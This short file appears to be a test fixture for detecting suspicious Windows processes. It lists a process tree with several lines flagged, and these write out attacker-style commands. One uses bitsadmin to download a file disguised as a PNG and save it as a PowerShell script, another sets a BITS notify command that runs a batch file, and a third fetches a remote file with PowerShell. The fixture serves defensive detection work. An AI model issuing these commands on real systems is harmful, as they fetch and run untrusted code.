os windows
101 1 ana - C:\Windows\explorer.exe | C:\Windows\explorer.exe
102 101 ana - C:\Windows\System32\cmd.exe | C:\Windows\System32\cmd.exe
+ 103 102 ana - C:\Windows\System32\bitsadmin.exe | bitsadmin /transfer j /download https://example.test/a.png C:\Users\ana\AppData\Local\Temp\a.ps1
+ 104 102 ana - C:\Windows\System32\bitsadmin.exe | bitsadmin /setnotifycmdline j C:\Windows\System32\cmd.exe "/c a.bat"
+ 105 102 ana - C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe | powershell -c Start-BitsTransfer -Source http://10.0.0.1/a -Destination C:\data\a
